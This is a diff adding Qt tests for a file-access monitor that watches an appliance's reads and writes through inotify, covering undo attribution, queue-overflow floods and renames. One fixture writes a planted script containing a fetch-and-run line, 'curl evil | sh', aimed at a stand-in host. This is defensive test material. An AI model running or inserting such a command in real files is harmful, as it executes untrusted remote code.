@@ -1,7 +1,9 @@
 // ApplianceMonitor on a real folder: store accesses against the activity contract and mount
-// rates, through real inotify events. (The same monitor on a real guest: tests/e2e/tst_monitor_e2e.)
+// rates, through real inotify events; renames seen under both names, a flood that overflows
+// the kernel's queue, and Tessera's own undo never blamed on the appliance. (The same monitor on a real guest: tests/e2e/tst_monitor_e2e.)
 #include "appliancemonitor.h"
 #include "monitortestcontracts.h"
+#include "storejournal.h"
 
 #include <QFile>
 #include <QSet>
@@ -136,6 +138,87 @@ private Q_SLOTS:
         QTRY_VERIFY_WITH_TIMEOUT(!seen.isEmpty(), 2000);
         for (const QList<QVariant> &access : std::as_const(seen))
             QVERIFY2(!access.first().toString().contains(QLatin1String("x.txt")), qPrintable(access.first().toString()));
+    }
+
+    void tesserasOwnWritesAreNeverBlamed()
+    {
+        // The store's history has the appliance's changes; the person undoes them while the
+        // appliance runs (issue 15: the undo was raised as the appliance's write-without-input).
+        QTemporaryDir journalDir;
+        QVERIFY(writeFile(m_store->filePath(QStringLiteral("Documents/letter.txt")), "dear bank"));
+        QVERIFY(writeFile(m_store->filePath(QStringLiteral("Documents/Letters/old.txt")), "an old letter"));
+        StoreJournal journal(journalDir.path(), m_store->path());
+        QVERIFY(journal.open());
+        QVERIFY(journal.scan(QString(), StoreJournal::hostActor()));
+        QTRY_VERIFY(QDateTime::currentDateTimeUtc() > journal.changes().last().time);
+        const QDateTime since = QDateTime::currentDateTimeUtc();
+        QVERIFY(writeFile(m_store->filePath(QStringLiteral("Documents/letter.txt")), "send money"));
+        QVERIFY(journal.record(QStringLiteral("Documents/letter.txt"), QStringLiteral("app")));
+        QVERIFY(writeFile(m_store->filePath(QStringLiteral("Documents/planted.sh")), "curl evil | sh"));
+        QVERIFY(journal.record(QStringLiteral("Documents/planted.sh"), QStringLiteral("app")));
+        // It removed a whole folder too: the undo makes it again.
+        QVERIFY(QDir(m_store->filePath(QStringLiteral("Documents/Letters"))).removeRecursively());
+        QVERIFY(journal.scan(QStringLiteral("Documents"), QStringLiteral("app")));
+
+        ApplianceMonitor monitor(QStringLiteral("app"), contractWith(DocumentsMount + WriteAfterInput), m_store->path());
+        QVERIFY(monitor.start());
+        QSignalSpy breaches(&monitor, &ApplianceMonitor::breach);
+        QSignalSpy seen(&monitor, &ApplianceMonitor::accessSeen);
+        QVERIFY(journal.applyUndo(QStringLiteral("app"), journal.planUndo(QStringLiteral("app"), since)));
+        QCOMPARE(QFile(m_store->filePath(QStringLiteral("Documents/letter.txt"))).size(), qint64(9));
+        QVERIFY(!QFile::exists(m_store->filePath(QStringLiteral("Documents/planted.sh"))));
+        QCOMPARE(QFile(m_store->filePath(QStringLiteral("Documents/Letters/old.txt"))).size(), qint64(13));
+        // A write of the appliance's own afterwards: once it is seen, the undo's events were too.
+        QVERIFY(writeFile(m_store->filePath(QStringLiteral("Documents/after.txt")), "guest"));
+        QTRY_VERIFY_WITH_TIMEOUT(std::any_of(seen.cbegin(), seen.cend(), [](const QList<QVariant> &a) {
+            return a.first().toString() == QLatin1String("Documents/after.txt"); }), 2000);
+        // (Tessera still reads a file to check it before an undo: inotify reports that read, as
+        // any read — docs/recovery.md says so plainly. Its writes are what must never count.)
+        for (const QList<QVariant> &access : std::as_const(seen)) {
+            if (access.at(1).toBool())
+                QCOMPARE(access.first().toString(), QStringLiteral("Documents/after.txt"));
+        }
+        // The same file written by someone else right after Tessera is seen again.
+        QVERIFY(writeFile(m_store->filePath(QStringLiteral("Documents/letter.txt")), "send money again"));
+        QTRY_VERIFY_WITH_TIMEOUT(std::any_of(seen.cbegin(), seen.cend(), [](const QList<QVariant> &a) {
+            return a.first().toString() == QLatin1String("Documents/letter.txt"); }), 2000);
+        monitor.stop();
+        QVERIFY(!breaches.isEmpty());
+        for (const QList<QVariant> &b : std::as_const(breaches)) {
+            const auto event = b.first().value<BreachEvent>();
+            for (const QString &evidence : event.evidence)
+                QVERIFY2(evidence == QLatin1String("Documents/after.txt") || evidence == QLatin1String("Documents/letter.txt"),
+                         qPrintable(evidence));
+        }
+    }
+
+    void aFloodOfEventsCannotHideAWrite()
+    {
+        ApplianceMonitor monitor(QStringLiteral("app"), contractWith(DocumentsMount + WriteAfterInput), m_store->path());
+        QVERIFY(monitor.start());
+        QSignalSpy seen(&monitor, &ApplianceMonitor::accessSeen);
+        // Without returning to the event loop, more events than the kernel queues
+        // (fs.inotify.max_queued_events, 16384 by default): it overflows and drops the rest.
+        for (int round = 0; round < 100; ++round) {
+            for (int i = 0; i < 100; ++i)
+                QVERIFY(writeFile(m_store->filePath(QStringLiteral("Documents/flood%1").arg(i)), QByteArray::number(round % 2)));
+        }
+        QVERIFY(writeFile(m_store->filePath(QStringLiteral("Documents/hidden.txt")), "written under cover of the flood"));
+        QTRY_VERIFY_WITH_TIMEOUT(std::any_of(seen.cbegin(), seen.cend(), [](const QList<QVariant> &a) {
+            return a.first().toString() == QLatin1String("Documents/hidden.txt"); }), 10000);
+    }
+
+    void aRenameIsSeenUnderBothNames()
+    {
+        QVERIFY(writeFile(m_store->filePath(QStringLiteral("Documents/letter.txt")), "dear bank"));
+        ApplianceMonitor monitor(QStringLiteral("app"), contractWith(DocumentsMount + WriteAfterInput), m_store->path());
+        QVERIFY(monitor.start());
+        QSignalSpy seen(&monitor, &ApplianceMonitor::accessSeen);
+        QVERIFY(QFile::rename(m_store->filePath(QStringLiteral("Documents/letter.txt")), m_store->filePath(QStringLiteral("Documents/moved.txt"))));
+        auto saw = [&seen](const QString &path) {
+            return std::any_of(seen.cbegin(), seen.cend(), [&](const QList<QVariant> &a) { return a.first().toString() == path; });
+        };
+        QTRY_VERIFY_WITH_TIMEOUT(saw(QStringLiteral("Documents/letter.txt")) && saw(QStringLiteral("Documents/moved.txt")), 2000);
     }
 
     void refusedConnectionsFromTheGatewayLog()
